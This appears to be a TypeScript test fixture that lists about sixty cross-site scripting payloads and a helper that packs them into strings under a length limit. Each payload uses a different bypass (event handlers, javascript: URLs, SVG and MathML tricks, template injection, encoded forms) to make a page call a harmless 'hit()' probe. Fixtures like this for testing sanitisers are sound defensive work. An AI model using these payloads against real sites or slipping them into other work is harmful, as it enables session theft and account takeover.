/** What runs where a text is taken for a page: each calls `hit`, in another way. */
const run = 'hit()';
const tags = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<script>${run}//`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<IMG """><img src=x onerror=${run}>">`,
  `"><img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<iframe src="javascript:${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe onload=${run}>`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action="javascript:${run}"><button>x</button>`,
  `<button formaction="javascript:${run}">x`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<style onload=${run}></style>`,
  `<div style="animation:x" onanimationstart=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#10;script:${run}">x</a>`,
  `[x](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  `\` onload=\`${run}`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `＜script＞${run}＜/script＞`,
];

export const scripts: readonly string[] = tags;
/** As many of them to a text as fit into so many characters. */
export const packed = (most: number): string[] => {
  const texts: string[] = [];
  for (const script of scripts) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + script.length < most) texts[texts.length - 1] = `${last} ${script}`;
    else if (script.length <= most) texts.push(script);
  }
  return texts;
};
